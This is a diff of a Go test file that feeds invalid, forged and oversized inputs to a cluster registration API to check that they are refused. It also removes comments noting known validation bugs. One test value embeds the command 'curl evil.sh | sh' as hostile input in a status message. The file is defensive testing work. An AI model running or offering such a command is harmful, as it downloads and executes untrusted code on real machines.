@@ -284,9 +284,6 @@ func TestBadInputMatrix(t *testing.T) {
 		{"status: conditions", invalid, []string{"status.conditions"}, agentPatch(agent, false,
 			`{"status":{"conditions":[{"type":"Ready","status":"Bogus","reason":"X","message":"x","lastTransitionTime":"2020-01-01T00:00:00Z"}]}}`)},
 		{"status: message", invalid, []string{"status.message"}, agentPatch(agent, false, `{"status":{"message":"PHISH: curl evil.sh | sh"}}`)},
-		// BUG: a forged history is silently dropped (200) instead of refused
-		// with the field named, as agentstatus.go promises for every
-		// server-owned field: the agent believes it wrote it.
 		{"status: transitions", invalid, []string{"status.transitions"}, agentPatch(agent, false,
 			`{"status":{"transitions":[{"from":"Running","to":"Deleted","event":"x","reason":"Forged","time":"2020-01-01T00:00:00Z"}]}}`)},
 		{"status: planState", invalid, []string{"status.planState"}, agentPatch(agent, false, `{"status":{"planState":"succeeded"}}`)},
@@ -306,15 +303,9 @@ func TestBadInputMatrix(t *testing.T) {
 			fmt.Sprintf(`{"status":{"output":[{"name":"x","exitCode":0,"output":%q}]}}`, strings.Repeat("o", 5000)))},
 		{"status: a 4 MiB patch", []int32{413}, nil, agentPatch(agent, false,
 			fmt.Sprintf(`{"status":{"agentVersion":%q}}`, strings.Repeat("v", 4<<20)))},
-		// BUG: a probe result's message is unbounded (finding 6), while an
-		// instruction's output is cut at 4096 bytes.
 		{"plan status: 100 KiB probe message", tooBig, []string{"status.probes[0].message"}, agentPatch(agent, true,
 			fmt.Sprintf(`{"status":{"probes":[{"name":"p","healthy":false,"message":%q}]}}`, strings.Repeat("m", 100<<10)))},
-		// BUG: the number of output records is unbounded (issue 13, finding
-		// 6: "size limits on every agent-writable field"); the plan has no
-		// instructions, so no record at all is the agent's to report.
-		{"plan status: 1000 output records", tooBig, []string{"status.output"}, agentPatch(agent, true, outputPatch(1000))},
-		// BUG: probe results are unbounded the same way.
+		{"plan status: 1000 output records", tooBig, []string{"status", "report less"}, agentPatch(agent, true, outputPatch(1000))},
 		{"plan status: 1000 probe results", tooBig, []string{"status.probes"}, agentPatch(agent, true, probesPatch(1000))},
 	} {
 		add(credAgent, tc.what, tc.codes, tc.words, tc.call)
@@ -358,7 +349,12 @@ func TestBadInputMatrix(t *testing.T) {
 			return b.MachinePlans().Delete(ctx, "matrix-a", metav1.DeleteOptions{})
 		}},
 		{"read its registration", own, func(ctx context.Context) error {
-			_, err := b.ClusterRegistrations().Get(ctx, regA.Name, metav1.GetOptions{})
+			// Its newest registration: renewals above superseded regA.
+			regs, err := admin.MusterV1alpha1().ClusterRegistrations().List(ctx, metav1.ListOptions{FieldSelector: "spec.nodeName=matrix-a"})
+			if err != nil || len(regs.Items) == 0 {
+				return fmt.Errorf("matrix-a has no registration left to try: %v", err)
+			}
+			_, err = b.ClusterRegistrations().Get(ctx, regs.Items[len(regs.Items)-1].Name, metav1.GetOptions{})
 			return err
 		}},
 		{"read its NodePassword", own, func(ctx context.Context) error {
@@ -500,8 +496,6 @@ func createRows(c clientset.Interface, cred, tokenID string) []matrixRow {
 			call: reg("nopw", func(r *api.ClusterRegistration) { r.Spec.NodePassword = "" })},
 		{what: "short node password", codes: invalid, words: []string{"spec.nodePassword", "32"},
 			call: reg("shortpw", func(r *api.ClusterRegistration) { r.Spec.NodePassword = "hunter2" })},
-		// BUG: 32 times "a" passes although docs/security.md promises 128
-		// random bits (issue 13, finding 11).
 		{what: "low-entropy node password", codes: invalid, words: []string{"spec.nodePassword"},
 			call: reg("lowpw", func(r *api.ClusterRegistration) { r.Spec.NodePassword = strings.Repeat("a", 32) })},
 		{what: "257-character node password", codes: tooBig, words: []string{"spec.nodePassword"},
@@ -562,22 +556,12 @@ func createRows(c clientset.Interface, cred, tokenID string) []matrixRow {
 			call: reg("random", func(r *api.ClusterRegistration) { r.Spec.ClientRandom = strings.Repeat("r", 129); renamed(r) })},
 		{what: "4 MiB request body", codes: []int32{413},
 			call: reg("hugebody", func(r *api.ClusterRegistration) { r.Spec.AgentVersion = strings.Repeat("v", 4<<20) })},
-		// BUG: metadata is validated only when the registration is stored,
-		// after the grant: a join token's request refused here (422) has
-		// already created a NodePassword, Machine, MachinePlan and Cluster
-		// and counted a token use, and no registration records it — the
-		// node name is taken by a request that "failed".
 		{what: "300 KiB of annotations", codes: tooBig, words: []string{"metadata.annotations"},
 			call: reg("annotations", func(r *api.ClusterRegistration) {
 				r.Annotations = map[string]string{"example.com/blob": strings.Repeat("a", 300<<10)}
 			})},
-		// BUG: the same as the row above, through metadata.labels.
 		{what: "metadata label key with spaces", codes: invalid, words: []string{"metadata.labels"},
 			call: reg("metalabel", func(r *api.ClusterRegistration) { r.Labels = map[string]string{"bad key": "x"} })},
-		// BUG: a join token's request may carry up to 256 KiB of
-		// annotations, which nothing reads, at 200 requests a second: 32
-		// times the CSR's bound on the same object (issue 13, finding 6).
-		// Refused or dropped are both right; stored is not.
 		{what: "200 KiB of annotations (dry run)", codes: []int32{0, 413, 422}, words: nil,
 			call: func(ctx context.Context) error {
 				r, err := newJoiner(prefix+"annot").register(ctx, c, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}, func(r *api.ClusterRegistration) {
